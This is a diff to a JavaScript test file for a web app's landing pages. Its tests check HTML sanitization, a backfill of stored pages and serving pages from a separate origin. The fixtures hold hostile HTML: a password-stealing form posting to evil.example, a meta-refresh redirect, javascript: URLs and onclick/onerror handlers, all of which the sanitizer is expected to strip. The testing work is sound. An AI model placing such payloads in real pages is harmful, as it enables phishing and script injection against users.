@@ -1,8 +1,11 @@
 import assert from 'node:assert/strict';
 import { randomBytes } from 'node:crypto';
 import { beforeAll, describe, test } from '@jest/globals';
+import pg from 'pg';
 import { useTestApp } from '../testing/api-harness.js';
+import { LANDING_PAGE_HTML_POLICY } from './landing-page-html.js';
 import { LANDING_PAGE_CSP } from './public-pages.controller.js';
+import { sanitizeStoredLandingPages } from './sanitize-stored-pages.js';
 
 describe('landing pages and their public address (real PostgreSQL)', () => {
   const { t, db, world, as } = useTestApp({ world: true });
@@ -41,7 +44,8 @@ describe('landing pages and their public address (real PostgreSQL)', () => {
       LANDING_PAGE_CSP,
       "default-src 'none'; img-src 'self' data: https:; style-src 'unsafe-inline'; sandbox; form-action 'none'; base-uri 'none'; frame-ancestors 'none'",
     );
-    assert.ok(page.text.includes(body), 'the HTML is served as written; the CSP keeps its script from running');
+    assert.ok(page.text.includes('<h1>Spring</h1><p>20% off</p><img src="https://example.test/a.png" />'), page.text);
+    assert.ok(!page.text.includes('<script'), 'the script was removed on write');
     assert.ok(page.text.includes(`<title>Spring Sale — 20% off! &lt;b&gt;${suffix}&lt;/b&gt;</title>`), 'the title is text, not markup');
 
     const unpublished = await as('soloCc').post(`${url}/unpublish`, {}, 2);
@@ -51,6 +55,55 @@ describe('landing pages and their public address (real PostgreSQL)', () => {
 
     const actions = (await db.auditEvent.findMany({ where: { accountId: solo, targetId: created.body.id }, orderBy: { id: 'asc' } })).map((e) => e.action);
     assert.deepEqual(actions, ['landing-page.created', 'landing-page.published', 'landing-page.unpublished']);
+  });
+
+  test('HTML is cleaned on create and on update: no form, meta refresh, script, handler or javascript: URL is stored', async () => {
+    const phishing =
+      '<h1>Your account</h1><meta http-equiv="refresh" content="0;url=https://evil.example"><form action="https://evil.example/steal"><input type="password" name="p"><button>Sign in</button></form>' +
+      '<a href="javascript:alert(1)" onclick="alert(2)">Help</a><a href="https://help.example">Help</a><img src="https://cdn.example/a.png" onerror="alert(3)">';
+    const clean = '<h1>Your account</h1><a>Help</a><a href="https://help.example">Help</a><img src="https://cdn.example/a.png" />';
+    const created = await as('soloCc').post(`/api/accounts/${solo}/landing-pages`, { title: `Phish ${unique()}`, bodyHtml: phishing });
+    assert.equal(created.status, 201, JSON.stringify(created.body));
+    assert.equal(created.body.bodyHtml, clean);
+    const url = `/api/accounts/${solo}/landing-pages/${created.body.id}`;
+    assert.equal((await as('soloCc').get(url)).body.bodyHtml, clean);
+
+    const updated = await as('soloCc').patch(url, { bodyHtml: `<p>Hi</p>${phishing}` }, 1);
+    assert.equal(updated.status, 200, JSON.stringify(updated.body));
+    assert.equal(updated.body.bodyHtml, `<p>Hi</p>${clean}`);
+    const stored = await db.landingPage.findFirstOrThrow({ where: { accountId: solo, id: created.body.id } });
+    assert.deepEqual([stored.bodyHtml, stored.htmlPolicy], [`<p>Hi</p>${clean}`, LANDING_PAGE_HTML_POLICY]);
+    const retitled = await as('soloCc').patch(url, { title: 'Retitled' }, 2);
+    assert.deepEqual([retitled.status, retitled.body.bodyHtml], [200, `<p>Hi</p>${clean}`]);
+
+    const audit = await db.auditEvent.findMany({ where: { accountId: solo, targetId: created.body.id, action: 'landing-page.updated' }, orderBy: { id: 'asc' } });
+    assert.deepEqual(audit.map((event) => event.data), [{ changed: ['bodyHtml'] }, { changed: ['title'] }]);
+  });
+
+  test('pages stored before cleaning: served cleaned at once, then cleaned in place by the backfill, once', async () => {
+    const slug = `old-page-${unique()}`;
+    const raw = '<h1>Old</h1><form action="https://evil.example"><input name="p"></form><meta http-equiv="refresh" content="0;url=https://evil.example"><p onclick="x()">Text</p>';
+    const legacy = await db.landingPage.create({ data: { accountId: solo, title: 'Old', slug, bodyHtml: raw, state: 'PUBLISHED', publishedAt: new Date(), htmlPolicy: 0 } });
+    const alreadyClean = await db.landingPage.create({ data: { accountId: solo, title: 'Plain', slug: `plain-${unique()}`, bodyHtml: '<p>Plain</p>', htmlPolicy: 0 } });
+
+    const served = await t.http.get(`/api/public/pages/${slug}`);
+    assert.equal(served.status, 200);
+    assert.ok(served.text.includes('<h1>Old</h1><p>Text</p>'), served.text);
+    assert.ok(!/form|refresh|onclick/.test(served.text), served.text);
+
+    const owner = new pg.Pool({ connectionString: process.env.DATABASE_URL, max: 1 });
+    try {
+      const first = await sanitizeStoredLandingPages(owner);
+      assert.ok(first.checked >= 2, JSON.stringify(first));
+      assert.ok(first.changed >= 1, JSON.stringify(first));
+      assert.deepEqual(await sanitizeStoredLandingPages(owner), { checked: 0, changed: 0 }, 'a second run finds nothing to do');
+    } finally {
+      await owner.end();
+    }
+    const cleaned = await db.landingPage.findFirstOrThrow({ where: { accountId: solo, id: legacy.id } });
+    assert.deepEqual([cleaned.bodyHtml, cleaned.htmlPolicy, cleaned.version], ['<h1>Old</h1><p>Text</p>', LANDING_PAGE_HTML_POLICY, legacy.version + 1]);
+    const untouched = await db.landingPage.findFirstOrThrow({ where: { accountId: solo, id: alreadyClean.id } });
+    assert.deepEqual([untouched.bodyHtml, untouched.htmlPolicy, untouched.version], ['<p>Plain</p>', LANDING_PAGE_HTML_POLICY, alreadyClean.version], 'an unchanged body keeps its version');
   });
 
   test('slugs are unique across accounts: 409 SLUG_TAKEN on create and on rename', async () => {
@@ -92,5 +145,32 @@ describe('landing pages and their public address (real PostgreSQL)', () => {
     assert.equal((await as('soloAm').delete(url, 1)).status, 412);
     assert.equal((await as('soloAm').delete(url, 2)).status, 204);
     assert.equal((await as('soloAm').get(url)).body.code, 'LANDING_PAGE_NOT_FOUND');
+  });
+});
+
+describe('landing pages on an origin of their own (PUBLIC_PAGES_URL)', () => {
+  const PAGES = 'pages.example.test:8443';
+  const { t, world, as } = useTestApp({ env: { PUBLIC_PAGES_URL: `https://${PAGES}` }, world: true });
+
+  test("a page is served only at the pages origin; the portal's address for it redirects there; nothing else is served there", async () => {
+    const solo = world.account('standalone').id;
+    const slug = `own-origin-${randomBytes(3).toString('hex')}`;
+    const created = await as('soloCc').post(`/api/accounts/${solo}/landing-pages`, { title: 'Own origin', slug, bodyHtml: '<p>Hello</p>' });
+    assert.equal((await as('soloCc').post(`/api/accounts/${solo}/landing-pages/${created.body.id}/publish`, {}, 1)).status, 200);
+
+    const fromPortal = await t.http.get(`/api/public/pages/${slug}`);
+    assert.deepEqual([fromPortal.status, fromPortal.headers.location], [308, `https://${PAGES}/p/${slug}`]);
+
+    const page = await t.http.get(`/p/${slug}`).set('Host', PAGES);
+    assert.equal(page.status, 200);
+    assert.match(page.text, /<p>Hello<\/p>/);
+    assert.equal(page.headers['content-security-policy'], LANDING_PAGE_CSP);
+    assert.equal((await t.http.get('/p/no-such-page').set('Host', PAGES)).body.code, 'PAGE_NOT_FOUND');
+
+    const token = world.caller('soloCc').token;
+    for (const [method, path] of [['get', '/'], ['get', `/api/public/pages/${slug}`], ['get', `/api/accounts/${solo}/landing-pages`], ['get', '/api/health'], ['post', '/api/auth/login'], ['post', `/p/${slug}`], ['get', '/index.html']] as const) {
+      const res = await t.http[method](path).set('Host', PAGES).set('Authorization', `Bearer ${token}`);
+      assert.deepEqual([res.status, res.body.code], [404, 'NOT_FOUND'], `${method} ${path}`);
+    }
   });
 });
